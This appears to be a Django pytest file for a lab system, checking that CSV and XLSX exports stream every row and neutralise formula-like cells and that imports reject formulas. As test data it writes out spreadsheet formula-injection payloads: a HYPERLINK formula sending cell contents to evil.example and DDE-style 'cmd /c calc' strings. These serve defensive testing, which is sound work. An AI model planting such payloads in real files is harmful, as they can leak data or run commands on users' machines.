"""Exports complete, streamed and safe to open (issues #14 and #16): every row by key (no 100,000 cut), CSV and
XLSX cells that start like a formula neutralised, XLSX cells typed as text, the audit trail the same way; imports
refuse formulas in value cells."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from lab import services
from lab.models import Sample
from lims import exports, listing
from lims.services import update_record
from tests.helpers import table_counts
from tests.lab.factories import local, make_assay, make_client

pytestmark = pytest.mark.django_db
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize(("value", "written"), [
    ("=1+2", "'=1+2"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3", "'-2+3"), ("@cmd", "'@cmd"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("plain", "plain"), ("", ""), (None, ""), (5, 5), (-1.5, -1.5), ("a=b", "a=b"),
])
def test_safe_cell_neutralises_formula_starts(value, written):
    assert exports.safe_cell(value) == written


@pytest.mark.parametrize(("value", "formula"), [
    ("=1+2", True), ("@SUM(A1)", True), ("+A1", True), ("-cmd|' /c calc'!A0", True), ("\t=1", True),
    ("-0.5", False), ("+12", False), ("1e3", False), ("+", False), ("++", False), ("-", False), ("neg", False),
    (12, False), ("", False),
])
def test_formula_like_for_imports(value, formula):
    assert exports.formula_like(value) is formula


@pytest.fixture
def lab(lab_user):
    client = make_client(lab_user, code="C1", name=EVIL)
    return {"user": lab_user, "client": client, "assay": make_assay(lab_user, code="A1", name="-2+3 assay")}


def receive(lab, n, **extra):
    rows = [{"client": lab["client"], "assay": lab["assay"],
             "received_at": local(2026, 3, 2, 8) + timedelta(minutes=i), **extra} for i in range(n)]
    return services.receive_samples(rows, user=lab["user"], reason="batch")


def test_list_csv_and_xlsx_export_every_row_through_chunks_neutralised(client_for, lab, monkeypatch):
    monkeypatch.setattr(listing, "EXPORT_CHUNK", 3)  # many key-ordered chunks, no OFFSET, no limit
    receive(lab, 10, result=EVIL)
    client = client_for(lab["user"])
    response = client.get(reverse("lab:sample-list"), {"export": "csv"})
    assert response.streaming
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert len(rows) == 11
    barcodes = list(Sample.objects.order_by("-received_at", "-id").values_list("barcode", flat=True))
    assert [r[0] for r in rows[1:]] == barcodes
    flat = [cell for r in rows for cell in r]
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in flat)
    assert ("'" + EVIL) in flat
    response = client.get(reverse("lab:sample-list"), {"export": "xlsx"})
    assert response.streaming
    book = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert sheet.max_row == 11
    assert all(c.data_type != "f" for c in cells)
    assert ("'" + EVIL) in [c.value for c in cells]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))


def test_audit_csv_and_xlsx_neutralise_reasons_and_export_every_row(client_for, auditor_user, lab):
    [sample] = receive(lab, 1)
    update_record(sample, {"result_unit": "g"}, user=lab["user"], reason="+cmd|' /c calc'!A0")
    client = client_for(auditor_user)
    body = b"".join(client.get(reverse("audit-log"), {"export": "csv"}).streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == ["history_id", "date", "user", "type", "record_type", "record_id", "reason", "reason_by_system",
                       "printed_name", "record_name"]
    assert "'+cmd|' /c calc'!A0" in [r[6] for r in rows]
    from lims import history

    assert len(rows) - 1 == sum(1 for _ in history.audit_iter())
    book = load_workbook(io.BytesIO(b"".join(
        client.get(reverse("audit-log"), {"export": "xlsx"}).streaming_content)))
    values = [c.value for row in book.worksheets[0].iter_rows() for c in row]
    assert "'+cmd|' /c calc'!A0" in values and len(list(book.worksheets[0].iter_rows())) == len(rows)


def test_xlsx_writer_streams_before_the_last_row():
    produced = []

    def rows():
        for i in range(5000):
            produced.append(i)
            yield [i, f"row {i}"]

    chunks = exports.xlsx_chunks("t", ["n", "text"], rows(), batch=500)
    next(chunks)
    second = next(chunks)
    while not second:
        second = next(chunks)
    assert len(produced) < 5000  # bytes left before the generator was drained
    data = second + b"".join(chunks)
    assert data


def _csv(rows):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode()


def test_lab_import_refuses_formulas_with_row_and_field_errors(client_for, lab):
    data = _csv([["barcode", "client", "assay", "received_at", "reported_at", "result", "result_value"],
                 ["F-1", "C1", "A1", "2026-03-02 09:00", "", "=1+1", ""],
                 ["F-2", "C1", "A1", "2026-03-02 09:00", "", "-", "-0.5"],
                 ["F-3", "@SUM(A1)", "A1", "2026-03-02 09:00", "", "", "+A1"]])
    before = table_counts(Sample, Sample.history.model)
    response = client_for(lab["user"]).post(reverse("lab:sample-import"),
                                            {"file": SimpleUploadedFile("in.csv", data), "reason": "courier"})
    found = [(e.row, e.field) for e in response.context["row_errors"]]
    assert found == [(2, "result"), (4, "client"), (4, "result_value")]
    assert "formula" in response.context["row_errors"][0].message
    assert table_counts(Sample, Sample.history.model) == before


def test_lab_xlsx_import_refuses_a_formula_cell(client_for, lab):
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["barcode", "client", "assay", "received_at", "result"])
    book.active.append(["X-1", "C1", "A1", "2026-03-02 09:00", '=HYPERLINK("http://e.example","x")'])
    buffer = io.BytesIO()
    book.save(buffer)
    response = client_for(lab["user"]).post(reverse("lab:sample-import"), {
        "file": SimpleUploadedFile("in.xlsx", buffer.getvalue()), "reason": "courier"})
    assert [(e.row, e.field) for e in response.context["row_errors"]] == [(2, "result")]
    assert not Sample.objects.filter(barcode="X-1").exists()
